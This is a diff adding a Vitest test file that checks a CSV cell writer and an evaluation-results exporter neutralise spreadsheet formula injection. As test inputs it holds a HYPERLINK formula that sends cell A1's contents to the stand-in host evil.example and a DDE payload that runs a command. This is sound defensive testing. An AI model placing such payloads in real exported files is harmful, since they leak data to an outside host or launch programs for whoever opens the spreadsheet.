@@ -1,0 +1,49 @@
+import { describe, expect, it } from "vitest";
+import { csvCell } from "./csv.ts";
+import { resultsCsv } from "./eval/report.ts";
+import { EvalResultSchema } from "./eval/schema.ts";
+
+describe("csvCell", () => {
+  it("neutralises text a spreadsheet would run as a formula (OWASP)", () => {
+    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"x")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`,
+    );
+    expect(csvCell("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
+    expect(csvCell("-2+3")).toBe("'-2+3");
+    expect(csvCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
+    expect(csvCell("\t=1")).toBe("'\t=1");
+    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
+  });
+
+  it("leaves numbers, booleans and ordinary text alone, and quotes what needs quoting", () => {
+    expect(csvCell(-1.5)).toBe("-1.5");
+    expect(csvCell(true)).toBe("true");
+    expect(csvCell(null)).toBe("");
+    expect(csvCell("a, b")).toBe('"a, b"');
+    expect(csvCell("plain")).toBe("plain");
+    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
+  });
+});
+
+describe("resultsCsv", () => {
+  it("writes a hostile answer as text in the results CSV", () => {
+    const row = EvalResultSchema.parse({
+      item: "@item",
+      strategy: "single",
+      repeat: 0,
+      correct: false,
+      score: 0,
+      answer: '=HYPERLINK("https://evil.example/?"&A1)',
+      expected: "-3",
+      tokens: 1,
+      cost: 0,
+      latencyMs: 1,
+      runId: "r1",
+    });
+    const [, line] = resultsCsv([row]).split("\n");
+    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
+    expect(line?.startsWith("'@item,single,0,false")).toBe(true);
+    expect(line).toContain(",'-3,");
+    expect(line?.split(",").some((c) => /^[=+\-@]/.test(c))).toBe(false);
+  });
+});
